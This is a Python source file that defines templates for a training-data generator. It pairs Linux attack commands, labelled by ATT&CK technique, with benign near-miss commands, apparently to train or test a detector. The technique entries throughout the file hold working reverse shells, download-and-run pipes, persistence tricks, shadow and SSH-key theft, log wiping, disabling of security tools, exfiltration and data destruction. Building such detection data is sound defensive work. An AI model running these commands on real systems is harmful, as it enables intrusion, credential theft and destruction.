"""Linux commands by technique, with near misses beside them."""

from __future__ import annotations

from training.generators.grammar import parse_templates

LINUX_LINES = parse_templates(
    r"""
linux-reverse-shell bash +T1059.004: «bash -i >& /dev/tcp/‹ip›/‹pid› 0>&1¦rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹ip› ‹pid› >/tmp/f¦nc -e /bin/bash ‹ip› ‹pid›¦0<&196;exec 196<>/dev/tcp/‹ip›/‹pid›; sh <&196 >&196 2>&196¦socat tcp-connect:‹ip›:‹pid› exec:bash,pty,stderr,setsid¦sh -c "curl -s http://‹ip›/‹name›.sh | bash"¦curl -fsSL http://‹ip›/‹name› | sh¦wget -qO- http://‹ip›/‹name›.sh | bash»
linux-python-shell bash +T1059.006: «python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("‹ip›",‹pid›));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'¦python -c 'import pty; pty.spawn("/bin/bash")'¦python3 -c "import urllib.request as u;exec(u.urlopen('http://‹ip›/‹name›.py').read())"¦python -c "exec(__import__('base64').b64decode('‹enc›'))"»
linux-cron bash +T1053.003: «echo "* * * * * /tmp/‹name›.sh" | crontab -¦(crontab -l; echo "*/‹n› * * * * curl http://‹ip›/‹name› | sh") | crontab -¦echo "* * * * * root ‹ldir›/‹name›.sh" > /etc/cron.d/‹name›¦cp ‹lfile› /etc/cron.«hourly¦daily»/‹name›¦crontab /tmp/‹name›¦echo "@reboot /tmp/.‹name›" >> /var/spool/cron/crontabs/root»
near-cron bash: «crontab -l¦run-parts /etc/cron.daily¦systemctl restart cron¦cat /etc/crontab¦ls -l /etc/cron.d¦/usr/sbin/logrotate /etc/logrotate.conf»
linux-at bash +T1053.002: «echo "‹ldir›/‹name›.sh" | at now + ‹n› minutes¦at -f /tmp/‹name›.sh now»
linux-timer bash +T1053.006: «cp ‹lfile› /etc/systemd/system/‹name›.timer && systemctl daemon-reload && systemctl start ‹name›.timer¦systemd-run --on-calendar='*:0/1' /bin/sh -c /tmp/‹name›.sh»
linux-service bash +T1543.002: «printf "[Service]\nExecStart=/tmp/‹name›\n" > /etc/systemd/system/‹name›.service¦cp /tmp/‹name›.service /etc/systemd/system/ && systemctl enable ‹name›.service && systemctl start ‹name›.service¦echo 'ExecStart=/bin/bash -c "bash -i >& /dev/tcp/‹ip›/443 0>&1"' >> /lib/systemd/system/‹name›.service¦update-rc.d ‹name› defaults; cp /tmp/‹name› /etc/init.d/‹name›¦tee /usr/lib/systemd/user/‹name›.service < /tmp/‹name›»
near-systemd bash: «systemctl status ‹name›¦systemctl restart nginx¦systemctl daemon-reload¦systemctl enable ssh¦journalctl -u ‹name› -n ‹n›¦systemctl list-timers --all¦systemctl is-active sshd»
linux-logs-clear bash +T1685.006: «rm -rf /var/log/*¦rm /var/log/«auth.log¦secure¦syslog¦messages¦wtmp¦btmp»¦cat /dev/null > /var/log/«auth.log¦messages¦secure¦wtmp»¦echo > /var/log/«syslog¦auth.log»¦truncate -s 0 /var/log/«syslog¦wtmp¦lastlog»¦shred -u /var/log/auth.log¦journalctl --vacuum-time=1s¦journalctl --rotate --vacuum-size=1¦> /var/spool/mail/root¦utmpdump -r < /tmp/‹name› > /var/log/wtmp»
near-linux-logs bash: «tail -f /var/log/syslog¦grep -i error /var/log/messages¦zcat /var/log/auth.log.2.gz | head¦journalctl --disk-usage¦rm /var/log/‹name›/old-‹n›.log.gz¦logrotate -f /etc/logrotate.d/nginx¦truncate -s 0 ‹ldir›/app.log»
linux-history bash +T1070.003: «history -c«¦w»¦rm ~/.bash_history¦cat /dev/null > ~/.bash_history¦ln -sf /dev/null ~/.bash_history¦truncate -s0 ~/.bash_history¦echo "" > /root/.bash_history¦shred -u /home/‹first›/.bash_history»
near-history bash: «history | tail -n ‹n›¦export HISTSIZE=10000¦history | grep ssh¦export HISTTIMEFORMAT="%F %T "»
linux-delete bash +T1070.004: «rm -f /tmp/.‹name›¦shred -u /tmp/‹name›.sh¦unlink /tmp/‹name›; rm -- "$0"¦nohup sh -c 'sleep 2; rm -f /tmp/‹name›' &»
linux-touch bash +T1070.006: «touch -«r /bin/ls¦r /etc/passwd¦t 197001010000.00¦a -t 201501010101.01¦d "2015-01-01"» ‹ldir›/‹name›¦touch -acmr /bin/sh /tmp/‹name›»
linux-hidden bash +T1564.001: «mkdir /var/tmp/.‹name›¦cp /bin/sh /tmp/.‹name›¦mv /tmp/‹name› /dev/shm/.x¦touch /var/tmp/.hidden-‹name› && mkdir /tmp/...»
linux-user bash +T1136.001: «useradd -«M -N -r -s /bin/bash¦o -u 0 -g 0 -M -d /root -s /bin/bash¦m» ‹name›¦adduser --disabled-password --gecos "" ‹name›¦useradd -g 0 ‹name›; echo "‹name›:‹pass›" | chpasswd¦echo "‹name›:x:0:0::/root:/bin/bash" >> /etc/passwd¦sudo useradd -p $(openssl passwd -1 ‹pass›) ‹name› -s /bin/bash»
linux-group bash +T1098.007: «usermod -aG «sudo¦wheel¦docker¦root» ‹name›¦gpasswd -a ‹name› sudo¦adduser ‹name› sudo»
linux-authorized bash +T1098.004: «echo "ssh-rsa AAAAB3Nza‹hash› ‹name›@‹name›" >> «~¦/root¦/home/‹first›»/.ssh/authorized_keys¦cat /tmp/‹name›.pub >> ~/.ssh/authorized_keys¦curl http://‹ip›/k.pub >> /root/.ssh/authorized_keys¦if [ -f ~/.ssh/authorized_keys ]; then ssh_keys=$(cat ~/.ssh/authorized_keys); echo "$ssh_keys" > ~/.ssh/authorized_keys; fi»
near-linux-user bash: «passwd ‹first›¦usermod -s /bin/zsh ‹first›¦chage -l ‹first›¦ssh-keygen -t ed25519 -f ~/.ssh/id_‹name›¦ssh-copy-id ‹first›@‹server›¦chmod 600 ~/.ssh/authorized_keys¦groupadd ‹project›¦usermod -aG ‹project› ‹first›»
linux-setuid bash +T1548.001: «chmod «u+s¦4755¦+s¦g+s» «/tmp/‹name›¦/bin/bash¦‹ldir›/‹name›»¦cp /bin/bash /tmp/‹name› && chown root /tmp/‹name› && chmod u+s /tmp/‹name›¦find / -perm -«4000¦u=s¦6000» -type f 2>/dev/null¦find / -uid 0 -perm -4000 -print¦setcap cap_setuid+ep /tmp/‹name›¦getcap -r / 2>/dev/null»
linux-sudo bash +T1548.003: «echo "‹name› ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers«¦.d/‹name›»¦sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers¦echo 'Defaults !tty_tickets' >> /etc/sudoers¦sudo -l¦cat /etc/sudoers»
near-sudo bash: «sudo apt-get update¦sudo -u postgres psql -c 'select 1'¦visudo -c¦sudo -k¦sudo systemctl reload nginx»
linux-shadow bash +T1003.008: «cat /etc/shadow«¦ > /tmp/‹name›»¦cp /etc/shadow /tmp/‹name›¦sudo cat /etc/passwd /etc/shadow¦unshadow /etc/passwd /etc/shadow > /tmp/‹name›¦tar czf /tmp/‹name›.tgz /etc/passwd /etc/shadow¦grep -v '[*!]' /etc/shadow¦python3 -c "print(open('/etc/shadow').read())"¦echo "$(</etc/shadow)"¦sed -n p /etc/shadow¦awk -F: '{print $2}' /etc/shadow»
near-shadow bash: «ls -l /etc/shadow¦stat /etc/shadow¦chmod 640 /etc/shadow¦pwck -r¦apt list --installed | grep shadow»
linux-proc-memory bash +T1003.007: «gcore -o /tmp/‹name› $(pgrep gnome-keyring)¦cat /proc/‹pid›/maps; dd if=/proc/‹pid›/mem of=/tmp/‹name› bs=1 skip=‹pid›¦./mimipenguin.sh¦python3 mimipenguin.py¦strings /proc/‹pid›/mem | grep -i pass¦grep -E "^[0-9a-f-]* r" /proc/"$(pgrep -f ‹name›)"/maps»
linux-history-creds bash +T1552.003: «cat ~/.bash_history | grep -«e '-p '¦i pass»¦grep -i password /home/*/.bash_history¦cat /root/.bash_history > /tmp/‹name›¦find / -name ".*_history" -exec cat {} \;»
linux-keys bash +T1552.004: «find / -name «id_rsa¦id_dsa¦"*.pem"¦"*.key"» «2>/dev/null¦-exec cp {} /tmp/‹name› \;»¦cat «~¦/root¦/home/‹first›»/.ssh/id_rsa¦cp -r ~/.ssh /tmp/‹name›¦rsync -R ~/.ssh/id_ed25519 /tmp/‹name›¦find / -name ".gnupg" -type d 2>/dev/null»
linux-files-creds bash +T1552.001: «grep -ri password / --include=*.conf¦grep -rni "password" /var/www 2>/dev/null¦cat ~/.aws/credentials¦find / -name "*.env" -exec cat {} \;¦cat ~/.netrc ~/.pgpass¦cat /var/www/html/wp-config.php¦cat ~/.docker/config.json ~/.kube/config¦python laZagne.py all»
linux-metadata bash +T1552.005: curl «-s ¦»http://169.254.169.254/«latest/meta-data/iam/security-credentials/¦latest/user-data¦metadata/identity/oauth2/token?resource=https://management.azure.com/¦computeMetadata/v1/instance/service-accounts/default/token -H "Metadata-Flavor: Google"»
linux-permissions bash +T1222.002: «chmod 777 «/tmp/‹name›¦/etc/passwd¦‹ldir›»¦chattr «-i¦+i» «/etc/passwd¦/root/.ssh/authorized_keys¦/tmp/‹name›¦/etc/ld.so.preload»¦chown root:root /tmp/‹name›¦chmod o+rwx /etc/shadow¦setfacl -m u:nobody:rwx /etc/sudoers»
near-chmod bash: «chmod 644 ‹lfile›¦chmod -R g+w ‹ldir›¦chown -R www-data:www-data /var/www/html¦lsattr /etc/passwd¦chmod +x ‹ldir›/build.sh¦getfacl ‹ldir›»
linux-modules bash +T1547.006: «insmod «/tmp¦/root¦/dev/shm»/‹name›.ko¦cp /tmp/‹name›.ko /lib/modules/$(uname -r)/ && depmod -a && modprobe ‹name›¦insmod ./‹name›.ko»
near-modules bash: «lsmod¦modprobe br_netfilter¦modinfo e1000e¦depmod -a¦dkms status¦rmmod floppy»
linux-preload bash +T1574.006: «echo /tmp/‹name›.so > /etc/ld.so.preload¦export LD_PRELOAD=/tmp/‹name›.so¦LD_PRELOAD=/dev/shm/‹name›.so ls¦gcc -shared -fPIC -o /tmp/‹name›.so /tmp/‹name›.c && echo /tmp/‹name›.so >> /etc/ld.so.preload»
near-preload bash: «ldconfig -p¦ldd /bin/ls¦cat /etc/ld.so.conf¦LD_LIBRARY_PATH=/opt/‹word›/lib /opt/‹word›/bin/‹word› --version»
linux-rc bash +T1546.004: «echo "‹ldir›/‹name›.sh" >> «~/.bashrc¦~/.bash_profile¦/etc/profile¦~/.zshrc¦~/.profile»¦echo 'curl http://‹ip›/‹name› | sh' >> ~/.bashrc¦cp /tmp/‹name›.sh /etc/profile.d/‹name›.sh»
linux-rclocal bash +T1037.004: «echo "‹ldir›/‹name›.sh &" >> /etc/rc.local¦echo 'bash -i >& /dev/tcp/‹ip›/443 0>&1' >> /etc/rc.d/rc.local; chmod +x /etc/rc.d/rc.local»
linux-tools-off bash +T1685: «setenforce 0¦systemctl «stop¦disable» «apparmor¦falcon-sensor¦clamav-daemon¦wazuh-agent»¦service «falcon-sensor¦cbdaemon» stop¦sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config¦aa-teardown¦pkill -9 «falcon-sensor¦osqueryd¦clamd»»
linux-audit-off bash +T1685.004: «auditctl -«e 0¦D»¦service auditd stop¦systemctl stop auditd.service¦rm -f /etc/audit/rules.d/*.rules¦sed -i '/‹name›/d' /etc/audit/audit.rules¦echo > /etc/audit/auditd.conf»
linux-firewall bash +T1686: «iptables -«F¦X¦P INPUT ACCEPT¦D INPUT 1»¦ufw disable¦systemctl «stop¦disable» «firewalld¦ufw»¦ufw delete 1¦nft flush ruleset¦service iptables stop»
near-linux-security bash: «auditctl -l¦ausearch -m USER_LOGIN -ts today¦getenforce¦sestatus¦ufw status verbose¦iptables -L -n¦systemctl status auditd¦aa-status¦firewall-cmd --list-all¦freshclam¦ufw allow 443/tcp»
linux-discovery-system bash +T1082: «uname -a¦cat /etc/«os-release¦issue¦*release»¦hostnamectl¦lsb_release -a¦uname -a >> /tmp/‹name›; cat /proc/version; uptime¦cat /sys/class/dmi/id/product_name | grep -i vmware»
linux-discovery-net bash +T1016: «ifconfig -a¦cat /etc/resolv.conf /etc/hosts¦arp -an; route -n¦ip neigh; ip route¦curl -s ifconfig.me»
linux-discovery-process bash +T1057: «ps aux >> /tmp/‹name›¦ps -ef | grep -i «falcon¦ossec¦auditd»¦ps auxwwf¦ls /proc/*/exe -l»
linux-discovery-groups bash +T1069.001: «groups ‹first›¦cat /etc/group¦getent group sudo¦dscacheutil -q group»
linux-discovery-files bash +T1083: «find / -type f -name "*.conf" 2>/dev/null > /tmp/‹name›¦ls -laR /home >> /tmp/‹name›¦find . -print | sed -e 's;[^/]*/;|__;g'¦locate *.pem¦find /home -mtime -1 -type f > /tmp/‹name›»
linux-scan bash +T1046: «nmap -«sS¦sV¦Pn -p-» ‹ip›/24¦masscan -p1-65535 ‹ip›/16 --rate=1000¦for p in {1..65535}; do (echo >/dev/tcp/‹ip›/$p) 2>/dev/null && echo $p; done¦nc -nvz ‹ip› 1-1024¦zmap -p 22 ‹ip›/16»
linux-sweep bash +T1018: «for ip in $(seq 1 254); do ping -c 1 -w 1 192.168.1.$ip; done¦arp -a | grep -v '^?'¦fping -a -g ‹ip›/24¦ip tcp_metrics show»
linux-users bash +T1033: «who -a¦whoami; id¦last -n ‹n› | awk '{print $1}'»
linux-download bash +T1105: «wget «-q ¦»http://‹ip›/‹name› -O /tmp/‹name›¦curl -«s ¦k »http://‹ip›/‹name› -o /tmp/.‹name›¦scp ‹user›@‹ip›:/tmp/‹name› /tmp¦wget http://‹ip›/‹name› -P /dev/shm && chmod 755 /dev/shm/‹name›¦tftp ‹ip› -c get ‹name›¦rsync ‹user›@‹ip›:/tmp/‹name› /var/tmp/»
linux-decode bash +T1140: «echo ‹enc› | base64 -d > /tmp/‹name›¦base64 --decode /tmp/‹name›.b64 > /tmp/‹name›; chmod +x /tmp/‹name›¦xxd -r -p /tmp/‹name› > /tmp/‹name›.bin¦openssl enc -d -aes-256-cbc -in /tmp/‹name›.enc -out /tmp/‹name› -k ‹pass›¦python3 -c 'import base64; open("/tmp/‹name›","wb").write(base64.b64decode("‹enc›"))'»
near-linux-web bash: «curl -s https://‹host›.‹fqdn›/health¦wget https://download.docker.com/linux/static/stable/docker.tgz¦base64 -d ‹lfile› | jq .¦nmap --version¦ps aux | grep nginx¦find ‹ldir› -name '*.log' -mtime +‹n›¦echo ok | base64¦curl -fsS -o /dev/null -w '%{http_code}' http://localhost:8080/ready»
linux-exfil bash +T1048.003: «curl -F 'file=@/tmp/‹name›.tgz' http://‹ip›/upload¦tar cz /home | nc ‹ip› ‹pid›¦curl --upload-file ‹lfile› ftp://‹ip›/¦cat /etc/passwd | xxd -p | while read l; do dig $l.‹name›.com; done¦python3 -m http.server ‹pid› --directory /home»
linux-archive bash +T1560.001: «tar -cvzf /tmp/‹name›.tar.gz «/home/‹first›¦/var/www /etc»¦zip -P ‹pass› -r /tmp/‹name›.zip /home¦gzip -f /tmp/‹name›.txt; openssl enc -aes-256-cbc -in /tmp/‹name›.gz -out /tmp/‹name›.enc -k ‹pass›¦gpg -c --passphrase ‹pass› --batch /tmp/‹name›.tgz»
linux-impact bash +T1485: «dd of=‹lfile› if=/dev/zero count=‹pid›¦rm -rf /home /var/lib/mysql¦shred -n 3 -zu /var/lib/mysql/*¦find / -name "*.bak" -exec shred -u {} \;»
linux-stop bash +T1489: «systemctl stop «mysqld¦postgresql¦docker¦nginx» && systemctl disable «mysqld¦docker»¦pkill -9 «mysqld¦postgres¦java»¦service cron stop; killall -9 mysqld¦esxcli vm process kill --type=force --world-id=‹pid›»
linux-mining bash +T1496.001: «./xmrig -o pool.supportxmr.com:3333 -u ‹hash› --donate-level=1 -B¦/tmp/.‹name›/xmrig --url stratum+tcp://‹ip›:3333 -k¦yes > /dev/null & yes > /dev/null &¦nohup /dev/shm/kdevtmpfsi &»
linux-tunnel bash +T1572: «ssh -«fN¦N» -R ‹pid›:localhost:22 ‹user›@‹ip›¦./chisel client ‹ip›:8080 R:1080:socks¦ssh -D 1080 -q -C -N ‹user›@‹ip›»
linux-sniff bash +T1040: «tcpdump -«i any¦c 5 -nnni eth0¦w /tmp/‹name›.pcap»¦tshark -c 5 -i eth0¦dumpcap -i any -w /tmp/‹name›¦python3 -c 'import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)); print(s.recv(65565))'»
linux-keylog bash +T1056.001: «echo "session required pam_tty_audit.so enable=* log_password" >> /etc/pam.d/system-auth¦trap 'logger -p local6.debug "$(history 1)"' DEBUG¦export PROMPT_COMMAND='logger "$(history 1)"'¦strace -p $(pgrep sshd) -e read -o /tmp/‹name›»
linux-pam bash +T1556.003: «sed -i "s,auth sufficient,auth sufficient pam_succeed_if.so uid >= 0\nauth sufficient," /etc/pam.d/su¦cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so¦echo "auth sufficient /tmp/pam_‹name›.so" >> /etc/pam.d/sshd»
linux-brute bash +T1110.001: «hydra -l «root¦‹user›» -P ‹lfile› «ssh://‹ip›¦‹ip› ssh»¦medusa -h ‹ip› -u root -P ‹lfile› -M ssh¦for p in $(cat ‹lfile›); do sshpass -p $p ssh ‹user›@‹ip› id; done¦for i in $(seq 1 9); do echo $i | sudo -S -u ‹first› id; done»
linux-escape bash +T1611: «docker run -«it¦v» --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh¦docker run -v /:/host -it ubuntu chroot /host¦mount /dev/sda1 /mnt && chroot /mnt¦nsenter --target 1 --mount --uts --ipc --net --pid -- bash»
"""
)
